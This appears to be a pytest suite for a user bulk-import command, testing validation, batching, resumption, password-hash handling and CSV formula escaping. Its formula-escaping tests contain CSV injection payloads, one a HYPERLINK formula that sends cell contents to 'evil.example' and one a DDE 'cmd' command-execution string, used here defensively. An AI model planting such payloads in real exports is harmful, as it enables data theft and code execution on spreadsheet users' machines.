"""`userbase import`: streamed, validated like the API, batched, resumable, never a crash."""

import csv
import io
import os
import signal
import subprocess
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest
from sqlalchemy import event, func, select
from typer.testing import CliRunner

from tests.conftest import new_user
from userbase.bulk_import import BulkImport, Candidate, Progress, insert_candidates
from userbase.cli import app
from userbase.csv_cells import escape_cell
from userbase.database import SessionLocal, engine
from userbase.import_rows import ImportRow, read_records
from userbase.models import User
from userbase.security import hash_password, is_usable_password_hash, verify_password

runner = CliRunner()
HEADER = "username,email,display_name,password_hash\n"


@pytest.fixture(scope="module")
def argon2_hash() -> str:
    return hash_password("imported password")


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def run_import(*args: str | Path) -> Any:
    result = runner.invoke(app, ["import", *map(str, args)])
    assert result.exit_code in (0, 1, 130), result.output
    return result


def users() -> dict[str, User]:
    with SessionLocal() as session:
        return {u.username: u for u in session.scalars(select(User))}


def rejected_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def test_csv_rows_are_imported_with_their_hashes(tmp_path: Path, argon2_hash: str) -> None:
    file = write(
        tmp_path / "users.csv",
        HEADER + f'ada,ada@example.com,Ada Lovelace,"{argon2_hash}"\n' + "bob,bob@example.com,,\n",
    )

    result = run_import(file)

    assert result.exit_code == 0
    assert "imported 2 rows, rejected 0" in result.output
    imported = users()
    assert imported["ada"].display_name == "Ada Lovelace"
    assert verify_password("imported password", imported["ada"].password_hash)[0]
    assert imported["bob"].display_name is None
    assert imported["ada"].is_active
    assert not imported["ada"].is_admin
    assert not (tmp_path / "users.csv.rejected.csv").exists()


def test_rows_without_a_hash_get_an_unusable_password(tmp_path: Path) -> None:
    run_import(write(tmp_path / "users.csv", "username,email\ncarl,carl@example.com\n"))

    stored = users()["carl"].password_hash
    assert not is_usable_password_hash(stored)
    assert verify_password("", stored) == (False, None)
    assert verify_password(stored, stored) == (False, None)


def test_json_lines_are_imported(tmp_path: Path, argon2_hash: str) -> None:
    lines = [
        {"username": "dora", "email": "dora@example.com", "password_hash": argon2_hash},
        {
            "username": "eve",
            "email": "eve@example.com",
            "display_name": "Eve",
            "password_hash": None,
        },
    ]
    file = tmp_path / "users.jsonl"
    file.write_bytes(b"\n".join(orjson.dumps(line) for line in lines) + b"\n\n")

    result = run_import(file)

    assert "imported 2 rows, rejected 0" in result.output
    assert users()["eve"].display_name == "Eve"
    assert users()["dora"].password_hash == argon2_hash


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("username", "ab"),
        ("username", "a" * 33),
        ("username", "has space"),
        ("username", "émile"),
        ("email", "not-an-email"),
        ("email", "a@b"),
        ("email", "x" * 310 + "@example.com"),
        ("display_name", "d" * 101),
        ("display_name", "bell\x07"),
        ("username", 12345),
    ],
)
def test_rows_are_validated_by_the_api_rules(tmp_path: Path, field: str, value: object) -> None:
    """The same cases as test_users_create: what the API refuses, the import rejects."""
    row = {k: v for k, v in new_user(1).items() if k != "password"}
    file = tmp_path / "users.jsonl"
    file.write_bytes(orjson.dumps({**row, field: value}) + b"\n")

    result = run_import(file)

    assert "imported 0 rows, rejected 1" in result.output
    [rejected] = rejected_rows(tmp_path / "users.jsonl.rejected.csv")
    assert rejected["line"] == "1"
    assert rejected["reason"].startswith(f"{field}: ")
    assert users() == {}


@pytest.mark.parametrize(
    "password_hash",
    [
        "$1$saltsalt$qjHGrDvzRUtBzL3Ikgv3v.",  # md5-crypt
        "md5$abc$0123456789abcdef",  # Django's old unsalted md5
        "sha1$salt$0123456789abcdef0123456789abcdef01234567",
        "correct horse battery staple",  # a password, not a hash
    ],
)
def test_hash_formats_we_cannot_verify_are_rejected_with_the_reason(
    tmp_path: Path, password_hash: str
) -> None:
    file = tmp_path / "users.jsonl"
    file.write_bytes(
        orjson.dumps({"username": "fay", "email": "f@example.com", "password_hash": password_hash})
    )

    run_import(file)

    [rejected] = rejected_rows(tmp_path / "users.jsonl.rejected.csv")
    assert rejected["reason"].startswith("password_hash: unsupported password_hash format")
    assert users() == {}


def test_duplicates_in_the_file_and_in_the_database_are_rejected_rows(
    tmp_path: Path, client: Any
) -> None:
    assert client.post("/users/", json=new_user("old")).status_code == 201
    file = write(
        tmp_path / "users.csv",
        "username,email\n"
        "gus,gus@example.com\n"  # line 2
        "GUS,other@example.com\n"  # same username, other case
        "hal,GUS@example.com\n"  # same email, other case
        "USEROLD,new@example.com\n"  # the API's user, other case
        "ivy,userold@EXAMPLE.com\n"  # the API user's email
        "jo_,jo@example.com\n",
    )

    result = run_import(file, "--batch-size", "2")

    assert result.exit_code == 0
    assert "imported 2 rows, rejected 4" in result.output
    assert set(users()) == {"userold", "gus", "jo_"}
    reasons = {r["line"]: r["reason"] for r in rejected_rows(tmp_path / "users.csv.rejected.csv")}
    assert reasons == {
        "3": "username: repeats line 2 of this file",
        "4": "A user with this email already exists.",  # line 2 was committed in batch 1
        "5": "A user with this username already exists.",
        "6": "A user with this email already exists.",
    }


def test_each_batch_is_one_transaction(tmp_path: Path) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email\n" + "".join(f"batch{n},batch{n}@example.com\n" for n in range(10)),
    )
    commits: list[int] = []
    listener = lambda _connection: commits.append(1)  # noqa: E731
    event.listen(engine, "commit", listener)
    try:
        run_import(file, "--batch-size", "4")
    finally:
        event.remove(engine, "commit", listener)
    assert len(commits) == 3
    assert len(users()) == 10


def test_dry_run_writes_nothing_and_reports_the_same_rejections(tmp_path: Path) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email\nkim,kim@example.com\nx,x@example.com\nlee,lee@example.com\nKIM,k2@example.com\n",
    )

    result = run_import(file, "--dry-run", "--batch-size", "2")

    assert "would import 2 rows, rejected 2" in result.output
    assert users() == {}
    reasons = [r["reason"] for r in rejected_rows(tmp_path / "users.csv.rejected.csv")]
    assert reasons == [
        "username: String should have at least 3 characters",
        "username: repeats line 2 of this file",
    ]


def test_malformed_records_are_rejected_rows(tmp_path: Path) -> None:
    csv_file = write(
        tmp_path / "users.csv",
        'username,email,display_name\nmia,mia@example.com,"Mia\nLine two"\n'
        "ned,ned@example.com,Ned,extra\noli\npam,pam@example.com,Pam\n",
    )
    run_import(csv_file)
    reasons = {r["line"]: r["reason"] for r in rejected_rows(tmp_path / "users.csv.rejected.csv")}
    assert reasons == {
        "2": "display_name: control, format and invisible characters are not allowed"
        " (found U+000A)",
        "4": "more fields than the header's 3",
        "5": "fewer fields than the header's 3",
    }
    assert set(users()) == {"pam"}

    jsonl = tmp_path / "users.jsonl"
    jsonl.write_bytes(
        b'{"username": "quin"\n'
        b"[1, 2]\n"
        b'{"username": "rae", "email": "r@example.com", "role": "admin"}\n'
        b'{"username": "sid", "email": "s@example.com", "is_admin": true}\n'
    )
    run_import(jsonl)
    reasons = {r["line"]: r["reason"] for r in rejected_rows(tmp_path / "users.jsonl.rejected.csv")}
    assert reasons == {
        "1": "not valid JSON",
        "2": "not a JSON object",
        "3": "role: Extra inputs are not permitted",
        "4": "is_admin: imported only with --trust-account-state",
    }


@pytest.mark.parametrize(
    "header", ["username,email,role", "email,display_name", "username,email,email", ""]
)
def test_a_csv_header_that_does_not_fit_stops_before_importing(tmp_path: Path, header: str) -> None:
    file = write(tmp_path / "users.csv", f"{header}\nsam,sam@example.com,x\n")
    result = run_import(file)
    assert result.exit_code == 1
    assert "The CSV header must name username and email" in result.output
    assert users() == {}


def test_the_format_comes_from_the_extension_or_format(tmp_path: Path) -> None:
    file = write(tmp_path / "users.txt", "username,email\ntom,tom@example.com\n")
    assert run_import(file).exit_code == 1
    assert run_import(file, "--format", "csv").exit_code == 0
    assert set(users()) == {"tom"}


def test_a_byte_order_mark_is_not_part_of_the_header(tmp_path: Path) -> None:
    file = tmp_path / "excel.csv"
    file.write_bytes("\ufeffusername,email\numa,uma@example.com\n".encode())
    assert run_import(file).exit_code == 0
    assert set(users()) == {"uma"}


def test_skip_resumes_and_appends_to_the_rejected_file(tmp_path: Path) -> None:
    rows = ["val,val@example.com", "x,x@example.com", "wes,wes@example.com", "y,y@example.com"]
    file = write(tmp_path / "users.csv", "username,email\n" + "\n".join(rows) + "\n")
    rejected = tmp_path / "users.csv.rejected.csv"

    run_import(file, "--batch-size", "2")
    assert [r["line"] for r in rejected_rows(rejected)] == ["3", "5"]
    rejected.write_text("line,reason\n7,kept from before\n")
    result = run_import(file, "--skip", "2")

    assert set(users()) == {"val", "wes"}
    # Appended after what was there; "wes" (line 4) was imported by the first run, as it is.
    assert [r["line"] for r in rejected_rows(rejected)] == ["7", "5"]
    assert "imported 0 rows, rejected 1" in result.output
    assert "already imported 1" in result.output


def test_a_new_import_keeps_the_rejected_file_of_an_earlier_one(tmp_path: Path) -> None:
    file = write(tmp_path / "users.csv", "username,email\nx,x@example.com\n")
    run_import(file)
    first = (tmp_path / "users.csv.rejected.csv").read_bytes()
    write(file, "username,email\nzoe,zoe@example.com\ny,y@example.com\n")

    result = run_import(file)

    assert (tmp_path / "users.csv.rejected.csv").read_bytes() == first
    second = tmp_path / "users.csv.rejected-2.csv"
    assert f"see {second}" in result.output
    assert [r["line"] for r in rejected_rows(second)] == ["3"]


def test_a_file_broken_halfway_keeps_the_finished_batches(tmp_path: Path) -> None:
    # Far more than the decoder's 8 KiB read-ahead, so batches finish before the bad bytes.
    good = "".join(f"half{n},half{n}@example.com\n" for n in range(5000)).encode()
    file = tmp_path / "users.csv"
    file.write_bytes(b"username,email\n" + good + b"\xff\xfe broken\n")

    result = run_import(file, "--batch-size", "1000")

    assert result.exit_code == 1
    assert "is not UTF-8" in result.output
    committed = len(users())
    assert committed >= 3000
    assert f"stopped after record {committed:,}" in result.output
    assert f"userbase import {file} --resume" in result.output


def test_progress_is_reported_after_every_batch(tmp_path: Path) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email\n" + "".join(f"prog{n},prog{n}@example.com\n" for n in range(7)),
    )
    seen: list[Progress] = []
    job = BulkImport(
        file, "csv", batch_size=3, on_batch=lambda p: seen.append(Progress(**vars_of(p)))
    )
    job.run()
    assert [p.records for p in seen] == [3, 6, 7]
    assert seen[-1].bytes_read == file.stat().st_size
    assert job.resume_skip == 7


def vars_of(progress: Progress) -> dict[str, int]:
    return {k: getattr(progress, k) for k in Progress.__slots__}  # type: ignore[attr-defined]


def test_should_stop_ends_the_import_after_the_current_batch(tmp_path: Path) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email\n" + "".join(f"stop{n},stop{n}@example.com\n" for n in range(10)),
    )
    job = BulkImport(file, "csv", batch_size=4, should_stop=lambda: True)
    job.run()
    assert job.resume_skip == 4
    assert len(users()) == 4


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_records_are_read_as_a_stream(fmt: str) -> None:
    rows = [{"username": f"u{n}", "email": f"u{n}@example.com"} for n in range(50_000)]
    if fmt == "csv":
        text = "username,email\n" + "".join(f"{r['username']},{r['email']}\n" for r in rows)
    else:
        text = "".join(orjson.dumps(r).decode() + "\n" for r in rows)
    stream = io.StringIO(text)

    records = read_records(stream, fmt)  # type: ignore[arg-type]
    first = next(records)

    assert first.fields["username"] == "u0"
    assert stream.tell() < 64 * 1024 < len(text) // 10


@pytest.mark.live
def test_ctrl_c_keeps_committed_batches_and_prints_where_to_resume(
    tmp_path: Path, database_url: str
) -> None:
    total = 60_000
    file = write(
        tmp_path / "users.csv",
        "username,email\n" + "".join(f"sig{n},sig{n}@example.com\n" for n in range(total)),
    )
    command = [sys.executable, "-m", "userbase", "import", str(file), "--batch-size", "200"]
    env = {**os.environ, "DATABASE_URL": database_url}
    process = subprocess.Popen(command, env=env, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while count_users() == 0 and time.monotonic() < deadline:
        time.sleep(0.02)
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=60)

    assert process.returncode == 130, stderr
    assert f"userbase import {file} --resume" in stderr
    stopped_line = next(line for line in stderr.splitlines() if "stopped after record" in line)
    committed = int(stopped_line.split("record ", 1)[1].split(":")[0].replace(",", ""))
    assert 0 < committed < total
    assert count_users() == committed

    resumed = subprocess.run(
        [*command, "--resume"], env=env, capture_output=True, text=True, timeout=120
    )
    assert resumed.returncode == 0, resumed.stderr
    assert count_users() == total
    assert not (tmp_path / "users.csv.rejected.csv").exists()


def count_users() -> int:
    with SessionLocal() as session:
        return session.scalar(select(func.count()).select_from(User)) or 0


def test_imported_foreign_hashes_sign_in_and_become_argon2id(tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from tests.accounts import sign_in
    from tests.test_foreign_hashes import DJANGO_VECTORS, FORMATS, OLD_PASSWORD
    from userbase.app import app as web_app

    rows = {
        "bcryptuser": FORMATS["bcrypt-2y"](OLD_PASSWORD),
        "djangouser": DJANGO_VECTORS["pbkdf2"],
        "scryptuser": DJANGO_VECTORS["scrypt"],
        "argon2iuser": FORMATS["argon2i"](OLD_PASSWORD),
    }
    file = tmp_path / "users.jsonl"
    file.write_bytes(
        b"\n".join(
            orjson.dumps({"username": name, "email": f"{name}@example.com", "password_hash": h})
            for name, h in rows.items()
        )
    )

    result = run_import(file)

    assert "imported 4 rows, rejected 0" in result.output
    with TestClient(web_app) as client:
        for name in rows:
            assert sign_in(client, name, "wrong password!").status_code == 401
            assert sign_in(client, name, OLD_PASSWORD).status_code == 200
    assert all(u.password_hash.startswith("$argon2id$") for u in users().values())


def test_account_state_columns_are_refused_without_trust_account_state(tmp_path: Path) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email,is_admin,created_at\nmal,mal@example.com,true,2020-01-01T00:00:00+00:00\n",
    )

    result = run_import(file)

    assert result.exit_code == 1
    assert "is_admin,created_at" in result.output
    assert "--trust-account-state" in result.output
    assert users() == {}


def test_trusted_account_state_is_imported_as_given(tmp_path: Path, argon2_hash: str) -> None:
    file = write(
        tmp_path / "users.csv",
        "username,email,password_hash,is_admin,is_active,email_verified,created_at\n"
        f'boss,boss@example.com,"{argon2_hash}",true,true,true,2019-05-06T09:08:09.123456+02:00\n'
        "gone,gone@example.com,,false,false,false,2021-01-02T03:04:05.000001+00:00\n"
        "plain,plain@example.com,,,,,\n",
    )

    result = run_import(file, "--trust-account-state")

    assert "imported 3 rows, rejected 0" in result.output, result.output
    imported = users()
    assert imported["boss"].is_admin
    assert imported["boss"].email_verified
    assert imported["boss"].created_at == datetime(2019, 5, 6, 7, 8, 9, 123456, UTC)
    assert not imported["gone"].is_active
    assert imported["gone"].created_at == datetime(2021, 1, 2, 3, 4, 5, 1, UTC)
    plain = imported["plain"]
    assert (plain.is_admin, plain.is_active, plain.email_verified) == (False, True, False)
    assert datetime.now(UTC) - plain.created_at < timedelta(minutes=1)


@pytest.mark.parametrize(
    ("column", "value", "reason"),
    [
        ("is_admin", "maybe", "is_admin: Input should be a valid boolean"),
        ("created_at", "2020-01-01T00:00:00", "created_at: Input should have timezone info"),
        ("created_at", "2999-01-01T00:00:00+00:00", "created_at: must be between 1970-01-01"),
        ("created_at", "1960-01-01T00:00:00+00:00", "created_at: must be between 1970-01-01"),
    ],
)
def test_trusted_account_state_is_validated(
    tmp_path: Path, column: str, value: str, reason: str
) -> None:
    file = write(tmp_path / "users.csv", f"username,email,{column}\nodd,odd@example.com,{value}\n")

    run_import(file, "--trust-account-state")

    [rejected] = rejected_rows(tmp_path / "users.csv.rejected.csv")
    assert rejected["reason"].startswith(reason)
    assert rejected[column] == value
    assert users() == {}


def test_importing_the_same_file_again_counts_its_rows_as_already_imported(
    tmp_path: Path, argon2_hash: str
) -> None:
    file = write(
        tmp_path / "users.csv",
        HEADER
        + f'ann,ann@example.com,Ann,"{argon2_hash}"\n'
        + "ben,ben@example.com,,\n"
        + "cal,cal@example.com,Cal,\n",
    )
    run_import(file, "--batch-size", "2")
    with engine.begin() as connection:  # since then, someone else took "cal"'s name
        connection.execute(
            User.__table__.update().where(User.username == "cal").values(display_name="Other")
        )
    write(file, file.read_text() + "dan,dan@example.com,,\n")

    result = run_import(file, "--batch-size", "2")

    assert "imported 1 rows, rejected 1" in result.output
    assert "already imported 2" in result.output
    [rejected] = rejected_rows(tmp_path / "users.csv.rejected.csv")
    assert (rejected["line"], rejected["reason"]) == (
        "4",
        "A user with this username already exists.",
    )
    assert set(users()) == {"ann", "ben", "cal", "dan"}


def test_a_row_that_differs_in_its_hash_or_letter_case_is_a_clash_not_the_same_user(
    tmp_path: Path, argon2_hash: str
) -> None:
    run_import(write(tmp_path / "first.csv", "username,email\neva,eva@example.com\n"))
    file = write(
        tmp_path / "users.csv",
        HEADER
        + f'eva,eva@example.com,,"{argon2_hash}"\n'
        + "EVA,eva@example.com,,\n"
        + "eva,EVA@example.com,,\n",
    )

    result = run_import(file, "--batch-size", "1")

    assert "imported 0 rows, rejected 3" in result.output
    assert "already imported 0" in result.output
    assert is_usable_password_hash(users()["eva"].password_hash) is False


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "'quoted",
    "'=already quoted",
    "''",
    "plain 'inside",
]


def test_escaped_csv_cells_are_read_back_exactly(tmp_path: Path) -> None:
    lines = [
        f"form{n},form{n}@example.com,{csv_cell(escape_cell(name))}"
        for n, name in enumerate(FORMULAS)
    ]
    file = write(tmp_path / "users.csv", "username,email,display_name\n" + "\n".join(lines) + "\n")

    result = run_import(file)

    assert f"imported {len(FORMULAS)} rows, rejected 0" in result.output
    imported = users()
    assert [imported[f"form{n}"].display_name for n in range(len(FORMULAS))] == FORMULAS


def test_raw_csv_takes_cells_as_written(tmp_path: Path) -> None:
    file = write(tmp_path / "users.csv", "username,email,display_name\nrow,row@example.com,'=1+1\n")

    run_import(file, "--raw-csv")

    assert users()["row"].display_name == "'=1+1"


def test_the_rejected_file_escapes_formulas(tmp_path: Path) -> None:
    file = tmp_path / "users.jsonl"
    file.write_bytes(orjson.dumps({"username": "=cmd|' /C calc'!A0", "email": "-x@example.com"}))

    run_import(file)

    text = (tmp_path / "users.jsonl.rejected.csv").read_text()
    assert "\"'=cmd|' /C calc'!A0\",\"'-x@example.com\"" in text
    [rejected] = rejected_rows(tmp_path / "users.jsonl.rejected.csv")
    assert rejected["username"] == "'=cmd|' /C calc'!A0"


def csv_cell(value: str) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow([value])
    return out.getvalue()


def test_a_clash_the_batch_lookup_misses_is_still_sorted_out_row_by_row(tmp_path: Path) -> None:
    """The slow path: keys that Python folded differently from the database (made up here)."""
    run_import(write(tmp_path / "first.csv", "username,email\nkay,kay@example.com\n"))
    rows = {
        2: ImportRow(username="kay", email="kay@example.com"),  # as imported
        3: ImportRow(username="KAY", email="other@example.com"),  # the name is taken
        4: ImportRow(username="lou", email="lou@example.com"),  # new
    }
    candidates = [
        Candidate(line, row, {}, f"not-the-key-{line}", f"not-the-key-{line}")
        for line, row in rows.items()
    ]

    with SessionLocal.begin() as session:
        outcome = insert_candidates(session, candidates)

    assert outcome.already_imported == 1
    assert [(r.line, r.reason) for r in outcome.rejected] == [
        (3, "A user with this username already exists.")
    ]
    assert set(users()) == {"kay", "lou"}
